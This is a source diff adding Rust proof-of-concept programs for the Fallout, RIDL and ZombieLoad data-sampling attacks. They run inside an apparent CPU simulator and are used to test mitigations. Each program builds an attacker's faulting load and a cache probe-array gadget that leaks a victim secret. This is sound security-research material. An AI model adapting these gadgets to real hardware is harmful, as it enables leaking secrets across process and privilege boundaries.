@@ -1,0 +1,173 @@
+//! Microarchitectural Data Sampling PoCs: Fallout (store buffer), RIDL and
+//! ZombieLoad (line-fill buffer).
+//!
+//! All three follow the same skeleton: the victim puts sensitive data *in
+//! flight* (a pending store, or a line travelling through the LFB); the
+//! attacker issues a faulting load that — on the modelled Intel-like
+//! baseline — is forwarded the in-flight data instead of stalling, and
+//! transmits it through the probe array during the fault's transient window
+//! (`CoreConfig::fault_window`).
+
+use crate::layout::{self, PROBE, PROT_ALIAS, PROT_BASE, VICTIM_SLOT};
+use crate::oracle::{cache_channel_outcome, AttackOutcome, GadgetFlavor};
+use crate::{AttackClass, TransientAttack};
+use sas_isa::{Operand, Program, ProgramBuilder, Reg, TagNibble, VirtAddr};
+use specasan::{build_system, Mitigation, SimConfig};
+
+/// Key colour of the victim slot targeted by Fallout/ZombieLoad stores.
+pub const MDS_SLOT_KEY: u8 = 0x6;
+
+fn transmit(asm: &mut ProgramBuilder) {
+    asm.lsl(Reg::X6, Reg::X5, Operand::imm(6));
+    asm.ldrb_idx(Reg::X8, Reg::X3, Reg::X6);
+}
+
+/// Serialises the attacker's faulting load behind a few dependent ALU ops so
+/// it issues only after the victim's data is in flight (the real attacks
+/// spin/retry; the chain is the deterministic equivalent).
+fn delay_chain(asm: &mut ProgramBuilder, reg: Reg, links: usize) {
+    for _ in 0..links {
+        asm.orr(reg, reg, Operand::reg(Reg::XZR));
+    }
+}
+
+// ---------------------------------------------------------------------------
+// Fallout
+// ---------------------------------------------------------------------------
+
+/// Fallout: a faulting load whose address 4K-aliases a pending victim store
+/// is forwarded the *store's data* from the store queue.
+#[derive(Debug, Clone, Copy, Default)]
+pub struct Fallout;
+
+/// Builds the Fallout program.
+pub fn fallout_program(_cfg: &SimConfig, _flavor: GadgetFlavor) -> Program {
+    let mut asm = ProgramBuilder::new();
+    asm.mov_imm64(Reg::X3, PROBE);
+    // Victim: it owns the secret (register-resident) and stores it to its
+    // own slot; the store sits in the SQ / store buffer while it drains.
+    asm.movz(Reg::X15, layout::SECRET as u16, 0);
+    asm.mov_imm64(
+        Reg::X14,
+        VirtAddr::new(VICTIM_SLOT).with_key(TagNibble::new(MDS_SLOT_KEY)).raw(),
+    );
+    asm.str(Reg::X15, Reg::X14, 0); // pending store of the secret
+    // Attacker: faulting load that 4K-aliases the pending store.
+    asm.mov_imm64(Reg::X16, PROT_ALIAS);
+    delay_chain(&mut asm, Reg::X16, 5);
+    asm.ldr(Reg::X5, Reg::X16, 0); // false-forwarded the secret
+    transmit(&mut asm);
+    asm.halt();
+    asm.build().expect("fallout assembles")
+}
+
+impl TransientAttack for Fallout {
+    fn name(&self) -> &'static str {
+        "Fallout"
+    }
+
+    fn class(&self) -> AttackClass {
+        AttackClass::Mds
+    }
+
+    fn run(&self, cfg: &SimConfig, m: Mitigation, flavor: GadgetFlavor) -> AttackOutcome {
+        let mut sys = build_system(cfg, fallout_program(cfg, flavor), m);
+        layout::install_victim(&mut sys);
+        sys.mem_mut().tags.set_range(
+            VirtAddr::new(VICTIM_SLOT),
+            16,
+            TagNibble::new(MDS_SLOT_KEY),
+        );
+        let exit = sys.run(3_000_000).exit;
+        cache_channel_outcome(&sys, exit)
+    }
+}
+
+// ---------------------------------------------------------------------------
+// RIDL
+// ---------------------------------------------------------------------------
+
+/// RIDL: a faulting load samples a victim line *in flight* through the
+/// line-fill buffer (here: the secret's line, fetched by a victim load).
+#[derive(Debug, Clone, Copy, Default)]
+pub struct Ridl;
+
+/// Builds the RIDL program.
+pub fn ridl_program(_cfg: &SimConfig, _flavor: GadgetFlavor) -> Program {
+    let mut asm = ProgramBuilder::new();
+    asm.mov_imm64(Reg::X3, PROBE);
+    // Victim: demand-loads its secret; the line travels through the LFB for
+    // ~a DRAM latency.
+    asm.mov_imm64(Reg::X11, layout::secret_ptr_valid().raw());
+    asm.ldrb(Reg::X12, Reg::X11, 0); // miss: secret line now in flight
+    // Attacker: faulting load while the fill is pending.
+    asm.mov_imm64(Reg::X16, PROT_BASE);
+    delay_chain(&mut asm, Reg::X16, 5);
+    asm.ldr(Reg::X5, Reg::X16, 0); // samples the in-flight line
+    transmit(&mut asm);
+    asm.halt();
+    asm.build().expect("ridl assembles")
+}
+
+impl TransientAttack for Ridl {
+    fn name(&self) -> &'static str {
+        "RIDL"
+    }
+
+    fn class(&self) -> AttackClass {
+        AttackClass::Mds
+    }
+
+    fn run(&self, cfg: &SimConfig, m: Mitigation, flavor: GadgetFlavor) -> AttackOutcome {
+        let mut sys = build_system(cfg, ridl_program(cfg, flavor), m);
+        layout::install_victim(&mut sys);
+        let exit = sys.run(3_000_000).exit;
+        cache_channel_outcome(&sys, exit)
+    }
+}
+
+// ---------------------------------------------------------------------------
+// ZombieLoad
+// ---------------------------------------------------------------------------
+
+/// ZombieLoad: like RIDL, but the in-flight line enters the LFB through a
+/// victim *store* (a request-for-ownership fill), demonstrating that any
+/// LFB occupancy — not just demand loads — is sampleable.
+#[derive(Debug, Clone, Copy, Default)]
+pub struct ZombieLoad;
+
+/// Builds the ZombieLoad program.
+pub fn zombieload_program(_cfg: &SimConfig, _flavor: GadgetFlavor) -> Program {
+    let mut asm = ProgramBuilder::new();
+    asm.mov_imm64(Reg::X3, PROBE);
+    // Victim: stores to its (cold) secret line — the RFO pulls the line,
+    // with the secret byte still in it, through the LFB.
+    asm.mov_imm64(Reg::X11, layout::secret_ptr_valid().raw());
+    asm.movz(Reg::X15, 0x7A, 0);
+    asm.strb(Reg::X15, Reg::X11, 8); // store elsewhere in the secret's line
+    // Attacker: faulting load while the ownership fill is pending (the
+    // victim store commits within a few cycles; the chain reaches past it).
+    asm.mov_imm64(Reg::X16, PROT_BASE);
+    delay_chain(&mut asm, Reg::X16, 10);
+    asm.ldr(Reg::X5, Reg::X16, 0);
+    transmit(&mut asm);
+    asm.halt();
+    asm.build().expect("zombieload assembles")
+}
+
+impl TransientAttack for ZombieLoad {
+    fn name(&self) -> &'static str {
+        "ZombieLoad"
+    }
+
+    fn class(&self) -> AttackClass {
+        AttackClass::Mds
+    }
+
+    fn run(&self, cfg: &SimConfig, m: Mitigation, flavor: GadgetFlavor) -> AttackOutcome {
+        let mut sys = build_system(cfg, zombieload_program(cfg, flavor), m);
+        layout::install_victim(&mut sys);
+        let exit = sys.run(3_000_000).exit;
+        cache_channel_outcome(&sys, exit)
+    }
+}
